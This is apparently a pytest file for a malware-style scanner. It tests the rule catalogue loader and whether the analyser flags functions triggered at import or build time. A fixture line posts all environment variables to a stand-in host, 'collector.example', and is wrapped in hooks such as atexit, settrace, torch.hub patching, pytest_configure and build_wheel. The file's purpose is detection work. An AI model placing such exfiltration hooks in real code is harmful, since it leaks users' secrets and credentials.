"""The behaviour catalogue (`rules/behaviour/*.toml`): every entry's examples, the
loader's refusals, and what triggers do to the units that run on import."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner.checks.heuristics.behaviour import ROLES, Entry, load_catalogue
from scanner.checks.heuristics.pyast import SIGNALS, analyse, may_have_capability
from scanner.checks.heuristics.vocabulary import CATALOGUE
from scanner.errors import RuleError

IDS = [e.id for e in CATALOGUE]


def test_catalogue_has_every_role() -> None:
    assert {e.role for e in CATALOGUE} == set(ROLES)
    assert len(IDS) == len(set(IDS))


@pytest.mark.parametrize("entry", CATALOGUE, ids=IDS)
def test_entry_match_example_shows_its_signals(entry: Entry) -> None:
    seen = analyse(entry.match).signals()
    assert set(entry.signals) <= seen, f"{entry.id}: missing {set(entry.signals) - seen}"


@pytest.mark.parametrize("entry", CATALOGUE, ids=IDS)
def test_entry_no_match_example_lacks_its_signal(entry: Entry) -> None:
    assert entry.signals[0] not in analyse(entry.no_match).signals(), entry.id


@pytest.mark.parametrize("entry", [e for e in CATALOGUE if e.tokens], ids=lambda e: e.id)
def test_entry_with_tokens_passes_the_prefilter(entry: Entry) -> None:
    assert may_have_capability(entry.match.encode()), entry.id


def test_catalogue_signals_are_in_the_vocabulary() -> None:
    assert {s for e in CATALOGUE for s in e.signals} <= SIGNALS


def _write(tmp_path: Path, role: str, body: str) -> Path:
    root = tmp_path / "behaviour"
    root.mkdir(exist_ok=True)
    (root / f"{role}s.toml").write_text(body)
    return tmp_path


GOOD = """
[[entry]]
id = "x"
signals = ["net-send"]
note = "n"
calls = ["a.b"]
match = "a"
no_match = "b"
"""


def test_loader_reads_a_minimal_catalogue(tmp_path: Path) -> None:
    (entry,) = load_catalogue(_write(tmp_path, "sink", GOOD))
    assert entry.role == "sink" and entry.calls == ("a.b",)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (GOOD.replace('calls = ["a.b"]', 'calls = ["a.b"]\nbogus = 1'), "unknown"),
        (GOOD.replace('calls = ["a.b"]', ""), "road"),
        (GOOD.replace('calls = ["a.b"]', 'strings = "("'), "bad regex"),
        (GOOD.replace('no_match = "b"', ""), "no_match"),
        (GOOD.replace('calls = ["a.b"]', 'methods = ["m"]\nfirst_arg = "("'), "bad regex"),
        (GOOD.replace('calls = ["a.b"]', 'strings = "x"\nkeyword = "data"'), "conditions"),
        (GOOD + GOOD, "duplicate"),
        ("entry = 3", "array"),
        ("[[entry", "TOML"),
    ],
)
def test_loader_refuses_bad_entries(tmp_path: Path, body: str, message: str) -> None:
    root = _write(tmp_path, "source", body)
    with pytest.raises(RuleError) as err:
        load_catalogue(root)
    assert message in err.value.diagnostics()
    assert "sources.toml" in err.value.diagnostics()


PAYLOAD = "requests.post('https://collector.example/x', json=dict(os.environ))"


@pytest.mark.parametrize(
    "code",
    [
        f"import atexit, os, requests\ndef f():\n    {PAYLOAD}\natexit.register(f)\n",
        f"import atexit, os, requests\n@atexit.register\ndef f():\n    {PAYLOAD}\n",
        f"import os, requests, weakref\nclass C: pass\nc = C()\ndef f():\n    {PAYLOAD}\n"
        "weakref.finalize(c, f)\n",
        f"import os, requests\ndef f():\n    {PAYLOAD}\nos.register_at_fork(after_in_child=f)\n",
        f"import os, requests, sys\ndef f(*a):\n    {PAYLOAD}\nsys.settrace(f)\n",
        f"import os, requests, torch.hub\ndef f(*a):\n    {PAYLOAD}\n"
        "torch.hub.download_url_to_file = f\n",
        f"import os, requests, torch.hub\ndef f(*a):\n    {PAYLOAD}\n"
        "setattr(torch.hub, 'load', f)\n",
        f"import os, requests\ndef pytest_configure(config):\n    {PAYLOAD}\n",
        f"import os, requests\ndef build_wheel(wheel_directory, settings=None):\n    {PAYLOAD}\n",
    ],
    ids=[
        "atexit",
        "atexit-decorator",
        "finalize",
        "fork",
        "settrace",
        "patch",
        "setattr-patch",
        "pytest-hook",
        "pep517-hook",
    ],
)
def test_triggered_function_runs_on_import(code: str) -> None:
    a = analyse(code)
    assert {"network", "env-all"} <= a.signals(import_time=True)


@pytest.mark.parametrize(
    "code",
    [
        f"import os, requests\ndef f():\n    {PAYLOAD}\n",
        f"import os, requests\nclass Backend:\n    def build_wheel(self, d):\n        {PAYLOAD}\n",
        f"import os, requests\nclass P:\n    def f(self):\n        {PAYLOAD}\nP.g = P.f\n",
    ],
    ids=["plain-function", "method-named-like-a-hook", "own-class-attribute"],
)
def test_untriggered_function_does_not(code: str) -> None:
    assert "network" not in analyse(code).signals(import_time=True)
